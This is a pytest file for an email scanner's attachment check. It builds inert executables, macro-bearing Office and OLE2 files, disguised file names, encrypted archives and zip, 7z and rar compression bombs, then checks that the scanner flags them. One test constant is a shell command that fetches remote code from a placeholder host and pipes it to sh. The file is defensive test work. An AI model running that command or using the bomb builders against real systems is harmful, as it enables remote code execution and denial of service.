"""The attachments check: true types by magic bytes, names, archives opened recursively under
limits, zip bombs from metadata alone, encrypted archives, MIME limits. Every sample is made
here (executables, Office files, OLE2 compound files, ISO images, bombs) in a few milliseconds;
real-world samples come from the shared corpus when it is beside the checkout."""

from __future__ import annotations

import asyncio
import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import time
import zipfile
import zlib
from collections import Counter
from collections.abc import Iterator
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path
from typing import Any

import py7zr
import pytest
import rarfile  # type: ignore[import-untyped]

from moat.model import Category, Finding, VerdictName
from moat.settings import AttachmentSettings, ScannerSettings, Settings
from services.scanner.checks import archives, build_checks, documents, parse
from services.scanner.checks.attachments import AttachmentCheck, inspect_message
from services.scanner.checks.filetypes import Kind, sniff
from services.scanner.verdict import decide
from tests.support import rar
from tests.support.ole2 import compound_file

CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "corpus"
MACRO_SAMPLES = CORPUS / "mime-fixtures/apache-spamassassin-tests/t/data/spam/olevbmacro"


# --- samples -----------------------------------------------------------------------------------


def pe() -> bytes:
    """A minimal PE: DOS header, e_lfanew at 0x3C, "PE\\0\\0" and a COFF header."""
    header = bytearray(0x80)
    header[:2] = b"MZ"
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + bytes(18)


ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
MACHO = b"\xcf\xfa\xed\xfe" + bytes(28)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(17)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(100) + b"\xff\xd9"
SCRIPT = b"#!/bin/sh\ncurl http://example.test/x | sh\n"


def iso() -> bytes:
    data = bytearray(0x8800)
    data[0x8000:0x8006] = b"\x01CD001"
    return bytes(data)


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def ooxml(macros: bool) -> bytes:
    files = {
        "[Content_Types].xml": b"<?xml version='1.0'?><Types/>",
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document/>",
    }
    if macros:
        files["word/vbaProject.bin"] = ole2([("VBA", 1, [])])
    return zipped(files)


def ole2(tree: list[Any], clsid: bytes = bytes(16)) -> bytes:
    """A minimal OLE2 compound file (version 3, 512-byte sectors): header, one FAT sector,
    one directory sector. ``tree``: [(name, type, children)], type 1 storage / 2 stream."""
    entries: list[tuple[str, int, int, int]] = [("Root Entry", 5, -1, -1)]  # name type child right

    def add(nodes: list[Any]) -> int:
        first = -1
        previous = -1
        for name, kind, children in nodes:
            index = len(entries)
            entries.append((name, kind, -1, -1))
            child = add(children)
            entries[index] = (name, kind, child, -1)
            if previous >= 0:
                p = entries[previous]
                entries[previous] = (p[0], p[1], p[2], index)
            else:
                first = index
            previous = index
        return first

    root_child = add(tree)
    entries[0] = ("Root Entry", 5, root_child, -1)
    assert len(entries) <= 4, "one directory sector holds four entries"
    nostream = 0xFFFFFFFF
    directory = b""
    for index, (name, kind, child, right) in enumerate(entries):
        encoded = (name + "\x00").encode("utf-16-le")
        directory += (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack(
                "<III", nostream, nostream if right < 0 else right, nostream if child < 0 else child
            )
            + (clsid if index == 0 else bytes(16))
            + bytes(4 + 16)
            + struct.pack("<IQ", 0xFFFFFFFE, 0)
        )
    directory = directory.ljust(512, b"\x00")
    fat = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE).ljust(512, b"\xff")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIII", 0, 1, 1, 0)
        + struct.pack("<IIIII", 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<I", 0)
        + b"\xff" * (108 * 4)
    )
    assert len(header) == 512
    return header + fat + directory


MSI_CLSID = struct.pack("<IHH", 0x000C1084, 0, 0) + bytes.fromhex("C000000000000046")


def tar_gz(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return gzip.compress(buffer.getvalue(), mtime=0)


def encrypt_flags(data: bytes) -> bytes:
    """Set the "encrypted" flag (bit 0) on every local and central record of a zip."""
    patched = bytearray(data)
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (found := patched.find(signature, start)) >= 0:
            patched[found + flag_at] |= 0x01
            start = found + 4
    return bytes(patched)


def sevenzipped(
    files: dict[str, bytes], password: str | None = None, header_encryption: bool = False
) -> bytes:
    """A 7z written by py7zr (LZMA2 at preset 1: fast enough for a 20 MiB bomb in 0.2 s)."""
    filters: list[dict[str, int]] = [{"id": py7zr.FILTER_LZMA2, "preset": 1}]
    if password is not None:
        filters.append({"id": py7zr.FILTER_CRYPTO_AES256_SHA256})
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(
        buffer, "w", filters=filters, password=password, header_encryption=header_encryption
    ) as archive:
        for name, content in files.items():
            archive.writestr(content, name)
    return buffer.getvalue()


def duplicate_central_record(data: bytes, old: bytes, new: bytes) -> bytes:
    """A second central record pointing at the first entry's local data (overlap)."""
    eocd = data.rfind(b"PK\x05\x06")
    count, size, offset = struct.unpack("<HII", data[eocd + 10 : eocd + 20])
    record = data[offset : offset + size]
    twin = record.replace(old, new)
    end = bytearray(data[eocd:])
    end[8:16] = struct.pack("<HHI", count + 1, count + 1, size * 2)
    return data[:offset] + record + twin + bytes(end)


# --- running the check -------------------------------------------------------------------------


def mail(*attachments: tuple[str, bytes], body: str = "see attached") -> bytes:
    message = EmailMessage(policy=SMTP)
    message["From"], message["To"], message["Subject"] = "a@b.test", "c@d.test", "files"
    message.set_content(body)
    for filename, content in attachments:
        message.add_attachment(
            content, maintype="application", subtype="octet-stream", filename=filename
        )
    return message.as_bytes()


def scan(raw: bytes, **overrides: Any) -> list[Finding]:
    policy = ScannerSettings(attachments=AttachmentSettings(**overrides))
    return asyncio.run(AttachmentCheck().check(parse("m1", raw, policy=policy)))


def symbols(findings: list[Finding]) -> set[str]:
    return {f.symbol for f in findings}


def only(findings: list[Finding], symbol: str) -> Finding:
    matching = [f for f in findings if f.symbol == symbol]
    assert len(matching) == 1, findings
    return matching[0]


# --- true types and names ----------------------------------------------------------------------


def test_sniff_classes() -> None:
    assert sniff(pe()).kind == Kind.EXECUTABLE
    assert sniff(ELF).kind == Kind.EXECUTABLE
    assert sniff(MACHO).kind == Kind.EXECUTABLE
    assert sniff(iso()).kind == Kind.DISK_IMAGE
    assert sniff(SCRIPT).kind == Kind.SCRIPT
    assert sniff(b"MZ but no PE header, just text that starts with MZ" * 3).kind == Kind.OTHER
    assert sniff(b"#!not a shebang").kind == Kind.OTHER
    assert sniff(PDF).kind == Kind.DOCUMENT
    java_class = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(20)  # class version 52
    assert sniff(java_class).kind == Kind.OTHER


def test_pe_renamed_to_pdf_is_an_executable_and_a_mismatch() -> None:
    findings = scan(mail(("invoice.pdf", pe())))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE", "ATTACHMENT_TYPE_MISMATCH"}
    assert all(f.category == Category.POLICY and f.check == "attachments" for f in findings)
    assert "invoice.pdf" in only(findings, "ATTACHMENT_TYPE_MISMATCH").detail
    assert "PE executable" in only(findings, "ATTACHMENT_EXECUTABLE").detail
    assert decide(findings, ScannerSettings()).verdict == VerdictName.POLICY


def test_exe_by_name_and_content_but_no_mismatch() -> None:
    assert symbols(scan(mail(("setup.exe", pe())))) == {
        "ATTACHMENT_EXECUTABLE",
        "ATTACHMENT_BLOCKED_EXTENSION",
    }


def test_blocked_extension_whatever_the_content_and_tricky_names() -> None:
    for name in ("update.js", "Invoice.PDF.vbs", "run.bat. ", "photo\u202egpj.hta"):
        findings = scan(mail((name, b"WScript.Echo 1\r\n")))
        assert symbols(findings) == {"ATTACHMENT_BLOCKED_EXTENSION"}, name


def test_elf_and_macho_are_executables() -> None:
    assert "ATTACHMENT_EXECUTABLE" in symbols(scan(mail(("tool", ELF))))
    assert "ATTACHMENT_EXECUTABLE" in symbols(scan(mail(("tool", MACHO))))


def test_docm_with_vba_project_and_a_renamed_one() -> None:
    docm = ooxml(macros=True)
    assert symbols(scan(mail(("report.docm", docm)))) == {
        "ATTACHMENT_MACRO",
        "ATTACHMENT_BLOCKED_EXTENSION",
    }
    assert symbols(scan(mail(("report.docx", docm)))) == {
        "ATTACHMENT_MACRO",
        "ATTACHMENT_TYPE_MISMATCH",
    }
    assert scan(mail(("report.docx", ooxml(macros=False)))) == []


def test_ole2_with_vba_storage_msi_and_encrypted_office() -> None:
    word = ole2([("Macros", 1, [("VBA", 1, [])])])
    excel = ole2([("_VBA_PROJECT_CUR", 1, [("VBA", 1, [])])])
    assert symbols(scan(mail(("letter.doc", word)))) == {"ATTACHMENT_MACRO"}
    assert symbols(scan(mail(("sheet.xls", excel)))) == {"ATTACHMENT_MACRO"}
    assert scan(mail(("letter.doc", ole2([("WordDocument", 2, [])])))) == []
    msi = scan(mail(("readme.doc", ole2([], clsid=MSI_CLSID))))
    assert symbols(msi) == {"ATTACHMENT_EXECUTABLE", "ATTACHMENT_TYPE_MISMATCH"}
    assert "MSI" in only(msi, "ATTACHMENT_EXECUTABLE").detail
    locked = ole2([("EncryptionInfo", 2, []), ("EncryptedPackage", 2, [])])
    assert symbols(scan(mail(("budget.xlsx", locked)))) == {"ARCHIVE_ENCRYPTED"}


def test_iso_image_by_magic_under_any_name() -> None:
    assert symbols(scan(mail(("photos.iso", iso())))) == {
        "ATTACHMENT_DISK_IMAGE",
        "ATTACHMENT_BLOCKED_EXTENSION",
    }
    assert symbols(scan(mail(("scan.pdf", iso())))) == {
        "ATTACHMENT_DISK_IMAGE",
        "ATTACHMENT_TYPE_MISMATCH",
    }


def test_ordinary_attachments_pass() -> None:
    raw = mail(
        ("report.pdf", PDF),
        ("chart.png", PNG),
        ("photo.jpg", JPEG),
        ("notes.txt", b"MZ is how the notes start, and nothing else.\n" * 5),
        ("data.csv", b"a,b\n1,2\n"),
        ("report.docx", ooxml(macros=False)),
        ("bundle.zip", zipped({"a.pdf": PDF, "b/c.png": PNG, "d.txt": b"hello"})),
        ("logs.tar.gz", tar_gz({"app.log": b"started\n" * 100})),
        body="#!/bin/sh at the start of a message is prose, not a program\n",
    )
    assert scan(raw) == []


def test_a_large_very_compressible_document_is_no_bomb() -> None:
    """Only what is opened counts: a document's own XML is never inflated, so its ratio is
    none of the bomb rules' business (its embedded files' is)."""
    sheet = b"<row><c t='s'><v>0</v></c></row>" * 200_000  # 6 MiB that deflate to ~30 KiB
    files = {"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": sheet}
    assert scan(mail(("big.xlsx", zipped(files)))) == []
    files["xl/embeddings/oleObject1.bin"] = sheet
    assert symbols(scan(mail(("big.xlsx", zipped(files))))) == {"ARCHIVE_BOMB"}


# --- archives ----------------------------------------------------------------------------------


def test_shell_script_in_a_tar_gz() -> None:
    findings = scan(mail(("tools.tar.gz", tar_gz({"bin/run.sh": SCRIPT}))))
    assert symbols(findings) == {"ATTACHMENT_SCRIPT"}
    assert only(findings, "ATTACHMENT_SCRIPT").detail.startswith(
        "tools.tar.gz/tools.tar/bin/run.sh"
    )


def test_executable_deep_in_nested_zips_and_depth_limit() -> None:
    inner = zipped({"payload.pdf": pe()})
    for level in range(3):
        inner = zipped({f"level{level}.zip": inner})
    findings = scan(mail(("archive.zip", inner)))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE", "ATTACHMENT_TYPE_MISMATCH"}
    assert "level0.zip/payload.pdf" in only(findings, "ATTACHMENT_EXECUTABLE").detail
    limited = scan(mail(("archive.zip", inner)), max_depth=3)
    assert symbols(limited) == {"ARCHIVE_LIMIT"}
    assert "deeper than 3" in only(limited, "ARCHIVE_LIMIT").detail


def test_zip_bomb_by_declared_ratio_without_inflating() -> None:
    bomb = zipped({"zeros.bin": bytes(20 * 1024 * 1024)})  # 20 MiB of zeros in ~20 KiB
    assert len(bomb) < 100_000
    started = time.perf_counter()
    findings = scan(mail(("bomb.zip", bomb)))
    assert symbols(findings) == {"ARCHIVE_BOMB"}
    assert "ratio" in only(findings, "ARCHIVE_BOMB").detail
    assert time.perf_counter() - started < 1.0


def test_zip_bomb_by_entry_count_and_by_overlap() -> None:
    many = zipped({f"f{i}.txt": b"x" for i in range(11)})
    assert symbols(scan(mail(("many.zip", many)), max_entries=10)) == {"ARCHIVE_BOMB"}
    assert scan(mail(("many.zip", many)), max_entries=11) == []
    overlapping = duplicate_central_record(
        zipped({"a.txt": b"hello" * 100}, zipfile.ZIP_STORED), b"a.txt", b"b.txt"
    )
    findings = scan(mail(("overlap.zip", overlapping)))
    assert symbols(findings) == {"ARCHIVE_BOMB"}
    assert "overlap" in only(findings, "ARCHIVE_BOMB").detail


def test_declared_sizes_are_not_trusted_reads_are_capped() -> None:
    """A gzip whose trailer lies (declares 10 bytes) cannot push past the byte budget."""
    payload = bytearray(gzip.compress(bytes(3 * 1024 * 1024), mtime=0))
    payload[-4:] = struct.pack("<I", 10)
    findings = scan(mail(("data.gz", bytes(payload))), max_total_uncompressed=1024 * 1024)
    assert symbols(findings) <= {"ARCHIVE_LIMIT", "ARCHIVE_BOMB"} and findings
    # Within the budget and below the ratio rule's floor, the same kind of file passes.
    assert (
        scan(mail(("data.gz", gzip.compress(b"a" * 1000))), max_total_uncompressed=1024 * 1024)
        == []
    )


def test_bzip2_and_xz_bombs_stop_early_and_their_payloads_are_seen() -> None:
    zeros = bytes(4 * 1024 * 1024)
    for name, packed in (("z.bz2", bz2.compress(zeros)), ("z.xz", lzma.compress(zeros))):
        started = time.perf_counter()
        findings = scan(mail((name, packed)))
        assert symbols(findings) == {"ARCHIVE_BOMB"}, name
        assert time.perf_counter() - started < 1.0
    assert symbols(scan(mail(("tool.bz2", bz2.compress(pe()))))) == {"ATTACHMENT_EXECUTABLE"}
    assert symbols(scan(mail(("tool.xz", lzma.compress(pe()))))) == {"ATTACHMENT_EXECUTABLE"}
    assert symbols(scan(mail(("cut.xz", lzma.compress(pe())[:24])))) == {"ARCHIVE_CORRUPT"}


def test_encrypted_zip_by_policy() -> None:
    locked = encrypt_flags(zipped({"invoice.pdf": PDF, "payload.exe": b"?"}, zipfile.ZIP_STORED))
    findings = scan(mail(("secret.zip", locked)))
    assert symbols(findings) == {"ARCHIVE_ENCRYPTED", "ATTACHMENT_BLOCKED_EXTENSION"}
    assert {f.category for f in findings} == {Category.POLICY}
    allowed = scan(
        mail(("secret.zip", encrypt_flags(zipped({"a.pdf": PDF})))), encrypted_archive_action="info"
    )
    assert [(f.symbol, f.category, f.score) for f in allowed] == [
        ("ARCHIVE_ENCRYPTED", Category.INFO, 0.0)
    ]


def test_opaque_and_corrupt_archives() -> None:
    cab = b"MSCF\x00\x00\x00\x00" + bytes(40)
    assert [(f.symbol, f.category) for f in scan(mail(("a.cab", cab)))] == [
        ("ARCHIVE_OPAQUE", Category.INFO)
    ]
    assert {f.category for f in scan(mail(("a.cab", cab)), opaque_archive_action="policy")} == {
        Category.POLICY
    }
    whole = zipped({"a.txt": b"hello" * 1000})
    truncated = whole[: len(whole) // 2]
    assert symbols(scan(mail(("cut.zip", truncated)))) == {"ARCHIVE_CORRUPT"}


# --- 7z ----------------------------------------------------------------------------------------


def test_executable_in_a_7z_is_blocked_and_a_clean_7z_passes() -> None:
    findings = scan(mail(("tools.7z", sevenzipped({"docs/readme.txt": b"hi", "bin/tool": pe()}))))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE"}
    assert only(findings, "ATTACHMENT_EXECUTABLE").detail.startswith("tools.7z/bin/tool: PE")
    script = scan(mail(("s.7z", sevenzipped({"run": SCRIPT, "empty.txt": b""}))))
    assert symbols(script) == {"ATTACHMENT_SCRIPT"}
    named = scan(mail(("n.7z", sevenzipped({"setup.exe": b"not really"}))))
    assert symbols(named) == {"ATTACHMENT_BLOCKED_EXTENSION"}
    clean = sevenzipped({"a.pdf": PDF, "b/c.png": PNG, "d.txt": b"hello", "e.txt": b""})
    assert scan(mail(("bundle.7z", clean))) == []  # opened: not even ARCHIVE_OPAQUE
    # A 7z behind an inert name is a disguise, as a zip is.
    assert symbols(scan(mail(("bundle.pdf", clean)))) == {"ATTACHMENT_TYPE_MISMATCH"}


def test_zip_nested_in_a_7z_and_7z_in_a_zip() -> None:
    inner = zipped({"payload.pdf": pe()})
    findings = scan(mail(("outer.7z", sevenzipped({"inner.zip": inner}))))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE", "ATTACHMENT_TYPE_MISMATCH"}
    assert "outer.7z/inner.zip/payload.pdf" in only(findings, "ATTACHMENT_EXECUTABLE").detail
    wrapped = zipped({"x.7z": sevenzipped({"inner.zip": inner})})
    assert "ATTACHMENT_EXECUTABLE" in symbols(scan(mail(("w.zip", wrapped))))
    assert symbols(scan(mail(("w.zip", wrapped)), max_depth=2)) == {"ARCHIVE_LIMIT"}


def test_7z_bomb_from_metadata_without_extracting(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = sevenzipped({"zeros.bin": bytes(20 * 1024 * 1024)})  # 20 MiB of zeros in ~3 KiB
    assert len(bomb) < 100_000

    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("a bomb must be recognised before anything is extracted")

    monkeypatch.setattr(py7zr.SevenZipFile, "extractall", refuse)
    started = time.perf_counter()
    findings = scan(mail(("bomb.7z", bomb)))
    assert time.perf_counter() - started < 1.0
    assert symbols(findings) == {"ARCHIVE_BOMB"}
    assert "ratio" in only(findings, "ARCHIVE_BOMB").detail
    # Solid: each file is small and compressible, together they come out of one stream.
    solid = sevenzipped({f"z{i}.bin": bytes(512 * 1024) for i in range(4)})
    assert symbols(scan(mail(("solid.7z", solid)))) == {"ARCHIVE_BOMB"}
    many = sevenzipped({f"f{i}.txt": b"x" for i in range(11)})
    assert symbols(scan(mail(("many.7z", many)), max_entries=10)) == {"ARCHIVE_BOMB"}


def test_7z_limits_from_metadata_and_capped_extraction() -> None:
    data = sevenzipped({"a.bin": random.Random(7).randbytes(600 * 1024)})  # incompressible
    limited = scan(mail(("big.7z", data)), max_total_uncompressed=512 * 1024)
    assert symbols(limited) == {"ARCHIVE_LIMIT"}
    assert "declares" in only(limited, "ARCHIVE_LIMIT").detail
    assert scan(mail(("big.7z", data)), max_total_uncompressed=2 * 1024 * 1024) == []
    # Whatever the header said, what is written stops one byte past the budget.
    budget = archives.Budget(archives.Limits(10, 100, 1000.0, 1 << 30))
    factory = archives._CappedFactory(budget.cap())
    writer = factory.create("x")
    writer.write(b"a" * 101)
    with pytest.raises(archives._Overrun):
        writer.write(b"a")


def test_encrypted_7z_content_and_header() -> None:
    locked = sevenzipped({"invoice.pdf": PDF, "payload.exe": b"?"}, password="secret")
    findings = scan(mail(("secret.7z", locked)))
    assert symbols(findings) == {"ARCHIVE_ENCRYPTED", "ATTACHMENT_BLOCKED_EXTENSION"}
    assert {f.category for f in findings} == {Category.POLICY}
    assert "secret.7z/payload.exe" in only(findings, "ATTACHMENT_BLOCKED_EXTENSION").detail
    hidden = sevenzipped({"payload.exe": pe()}, password="secret", header_encryption=True)
    findings = scan(mail(("hidden.7z", hidden)))
    assert [(f.symbol, f.category) for f in findings] == [("ARCHIVE_ENCRYPTED", Category.POLICY)]
    assert "names hidden" in findings[0].detail
    allowed = scan(mail(("hidden.7z", hidden)), encrypted_archive_action="info")
    assert [(f.symbol, f.category, f.score) for f in allowed] == [
        ("ARCHIVE_ENCRYPTED", Category.INFO, 0.0)
    ]


def test_corrupt_7z() -> None:
    whole = sevenzipped({"a.txt": bytes(range(256)) * 64})
    for broken in (
        whole[: len(whole) // 2],  # truncated: the header is gone
        whole[:40] + bytes(200) + whole[240:],  # packed data damaged: CRC or decoder error
        b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40),  # a signature and nothing else
    ):
        findings = scan(mail(("cut.7z", broken)))
        assert [(f.symbol, f.category) for f in findings] == [
            ("ARCHIVE_CORRUPT", Category.POLICY)
        ], findings
    allowed = scan(mail(("cut.7z", whole[:100])), corrupt_archive_action="info")
    assert [(f.symbol, f.category) for f in allowed] == [("ARCHIVE_CORRUPT", Category.INFO)]


def with_7z_header(data: bytes, header: bytes, size: int | None = None) -> bytes:
    """``data`` (a 7z) with its next header replaced by ``header`` (declared ``size`` bytes),
    and the signature header's CRCs made right again."""
    offset = struct.unpack_from("<Q", data, 12)[0]
    body = data[: 32 + offset] + header
    start = struct.pack("<QQI", offset, len(header) if size is None else size, zlib.crc32(header))
    return body[:8] + struct.pack("<I", zlib.crc32(start)) + start + body[32:]


def refuse_py7zr(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("py7zr must not read this header")

    monkeypatch.setattr(py7zr, "SevenZipFile", refuse)


def test_7z_header_outside_the_data_or_too_big_is_refused_before_py7zr(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    whole = sevenzipped({"a.txt": b"hello"})
    offset, size = struct.unpack_from("<QQ", whole, 12)
    header = whole[32 + offset :]
    assert len(header) == size
    refuse_py7zr(monkeypatch)
    beyond = with_7z_header(whole, header, size=10 * len(whole))
    findings = scan(mail(("forged.7z", beyond)))
    assert symbols(findings) == {"ARCHIVE_CORRUPT"}
    assert "lies outside" in only(findings, "ARCHIVE_CORRUPT").detail
    huge = with_7z_header(whole, b"\x01" + bytes(archives.MAX_7Z_HEADER))  # a plain header, 1 MiB
    findings = scan(mail(("huge.7z", huge)))
    assert symbols(findings) == {"ARCHIVE_LIMIT"}
    assert "7z header of" in only(findings, "ARCHIVE_LIMIT").detail
    bad_crc = bytearray(with_7z_header(whole, header))
    bad_crc[-1] ^= 0xFF  # the header's last byte: its CRC no longer matches
    assert symbols(scan(mail(("crc.7z", bytes(bad_crc))))) == {"ARCHIVE_CORRUPT"}


def test_7z_encoded_header_declaring_a_giant_size_is_refused_before_py7zr(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    whole = sevenzipped({"a.txt": b"hello"})
    offset, size = struct.unpack_from("<QQ", whole, 12)
    header = whole[32 + offset :]
    # py7zr's header: kEncodedHeader (0x17), PackInfo, UnpackInfo ending with
    # kCodersUnpackSize (0x0C), one 1-byte NUMBER, kEnd, kEnd.
    assert (
        header[0] == 0x17 and header[-4] == 0x0C and header[-3] < 0x80 and header[-2:] == bytes(2)
    )
    assert archives._encoded_header_size(archives._7zReader(header, 1, "x")) == header[-3]
    giant = 200 << 20  # under py7zr's own 256 MiB, over our 16 MiB
    forged = header[:-3] + b"\xff" + struct.pack("<Q", giant) + b"\x00\x00"
    assert archives._encoded_header_size(archives._7zReader(forged, 1, "x")) == giant
    data = with_7z_header(whole, forged)
    refuse_py7zr(monkeypatch)
    findings = scan(mail(("giant.7z", data)))
    assert symbols(findings) == {"ARCHIVE_LIMIT"}
    assert f"declaring {giant} bytes decoded" in only(findings, "ARCHIVE_LIMIT").detail
    # Cut inside the header's folder description: corrupt, not a crash.
    cut = with_7z_header(whole, header[:9])
    assert symbols(scan(mail(("cut.7z", cut)))) == {"ARCHIVE_CORRUPT"}
    monkeypatch.undo()
    assert scan(mail(("ok.7z", with_7z_header(whole, header)))) == []  # unchanged: still fine


# --- rar ---------------------------------------------------------------------------------------

BUILDERS = [pytest.param(rar.rar4, id="rar4"), pytest.param(rar.rar5, id="rar5")]


@pytest.fixture
def unar() -> None:
    """The compressed-member tests need unar (``make install`` installs it)."""
    assert archives.rar_tool(), "unar is not installed: run scripts/ensure-rar-tool.sh as root"


@pytest.mark.parametrize("build", BUILDERS)
def test_executable_in_a_stored_rar_is_blocked_and_a_plain_rar_passes(build: Any) -> None:
    findings = scan(mail(("tools.rar", build(rar.stored({"docs/a.txt": b"hi", "bin/tool": pe()})))))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE"}
    assert only(findings, "ATTACHMENT_EXECUTABLE").detail == "tools.rar/bin/tool: PE executable"
    plain = build([rar.Entry("docs", directory=True), rar.Entry("docs/readme.txt", b"hello")])
    assert scan(mail(("plain.rar", plain))) == []  # opened: not even ARCHIVE_OPAQUE
    assert symbols(scan(mail(("plain.pdf", plain)))) == {"ATTACHMENT_TYPE_MISMATCH"}


@pytest.mark.parametrize("build", BUILDERS)
def test_compressed_rar_members_are_extracted_by_unar(build: Any, unar: None) -> None:
    members = [rar.Entry("bin/tool", pe(), method=3), rar.Entry("notes.txt", b"x" * 500, method=1)]
    findings = scan(mail(("packed.rar", build(members))))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE"}
    assert "packed.rar/bin/tool" in only(findings, "ATTACHMENT_EXECUTABLE").detail
    solid = build(
        [rar.Entry("a.txt", b"a" * 300, method=2), rar.Entry("b.sh", SCRIPT, method=2)], solid=True
    )
    assert symbols(scan(mail(("solid.rar", solid)))) == {"ATTACHMENT_SCRIPT"}
    clean = build([rar.Entry("a.pdf", PDF, method=5), rar.Entry("b.png", PNG, method=5)])
    assert scan(mail(("clean.rar", clean))) == []


@pytest.mark.parametrize("build", BUILDERS)
def test_zip_in_a_rar_and_rar_in_a_zip(build: Any) -> None:
    inner = zipped({"payload.pdf": pe()})
    findings = scan(mail(("outer.rar", build(rar.stored({"inner.zip": inner})))))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE", "ATTACHMENT_TYPE_MISMATCH"}
    assert "outer.rar/inner.zip/payload.pdf" in only(findings, "ATTACHMENT_EXECUTABLE").detail
    wrapped = zipped({"x.rar": build(rar.stored({"inner.zip": inner}))})
    assert "ATTACHMENT_EXECUTABLE" in symbols(scan(mail(("w.zip", wrapped))))
    assert symbols(scan(mail(("w.zip", wrapped)), max_depth=2)) == {"ARCHIVE_LIMIT"}


@pytest.mark.parametrize("build", BUILDERS)
def test_rar_bomb_from_headers_without_extracting(
    build: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("a bomb must be recognised before anything is extracted")

    monkeypatch.setattr(rarfile.RarFile, "open", refuse)
    bomb = build([rar.Entry("zeros.bin", bytes(64), size=20 << 30, method=3)])  # 20 GiB
    findings = scan(mail(("bomb.rar", bomb)))
    assert symbols(findings) == {"ARCHIVE_BOMB"}
    assert f"declares {20 << 30} bytes" in only(findings, "ARCHIVE_BOMB").detail
    many = build(rar.stored({f"f{i}.txt": b"x" for i in range(11)}))
    assert symbols(scan(mail(("many.rar", many)), max_entries=10)) == {"ARCHIVE_BOMB"}
    # Over the byte budget but no bomb (ratio 1): refused from the headers as a limit.
    big = build([rar.Entry("big.bin", bytes(600 * 1024))])
    limited = scan(mail(("big.rar", big)), max_total_uncompressed=512 * 1024)
    assert symbols(limited) == {"ARCHIVE_LIMIT"}
    assert "declares" in only(limited, "ARCHIVE_LIMIT").detail


def test_rar_dictionary_over_the_limit_is_refused_before_unar(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(rarfile.RarFile, "open", lambda *a: pytest.fail("unar must not run"))
    huge = rar.rar5([rar.Entry("a.bin", b"x" * 100, method=3, dictionary=15)])  # 4 GiB
    findings = scan(mail(("dict.rar", huge)))
    assert symbols(findings) == {"ARCHIVE_LIMIT"}
    assert "4096 MiB dictionary" in only(findings, "ARCHIVE_LIMIT").detail


@pytest.mark.parametrize("build", BUILDERS)
def test_encrypted_rar_members_and_headers(build: Any) -> None:
    locked = build([rar.Entry("invoice.pdf", PDF), rar.Entry("payload.exe", pe(), encrypted=True)])
    findings = scan(mail(("secret.rar", locked)))
    assert symbols(findings) == {"ARCHIVE_ENCRYPTED", "ATTACHMENT_BLOCKED_EXTENSION"}
    assert only(findings, "ARCHIVE_ENCRYPTED").detail == (
        "secret.rar/payload.exe: encrypted archive member"
    )
    assert {f.category for f in findings} == {Category.POLICY}
    hidden = build(rar.stored({"payload.exe": pe()}), header_encrypted=True)
    findings = scan(mail(("hidden.rar", hidden)))
    assert [(f.symbol, f.category) for f in findings] == [("ARCHIVE_ENCRYPTED", Category.POLICY)]
    assert "names hidden" in findings[0].detail
    allowed = scan(mail(("hidden.rar", hidden)), encrypted_archive_action="info")
    assert [(f.symbol, f.category) for f in allowed] == [("ARCHIVE_ENCRYPTED", Category.INFO)]


@pytest.mark.parametrize("build", BUILDERS)
def test_corrupt_rar(build: Any) -> None:
    whole = build(rar.stored({"a.txt": bytes(range(256)) * 8, "b.txt": b"hello"}))
    damaged = bytearray(whole)
    damaged[len(whole) // 2] ^= 0xFF  # inside a.txt's data: its CRC fails
    for broken in (
        whole[: len(whole) // 2],  # truncated
        bytes(damaged),
        whole[:8] + bytes(100),  # a signature, then garbage
        whole[:8],  # a signature and nothing else
    ):
        findings = scan(mail(("cut.rar", broken)))
        assert [(f.symbol, f.category) for f in findings] == [
            ("ARCHIVE_CORRUPT", Category.POLICY)
        ], findings
    allowed = scan(mail(("cut.rar", whole[:100])), corrupt_archive_action="info")
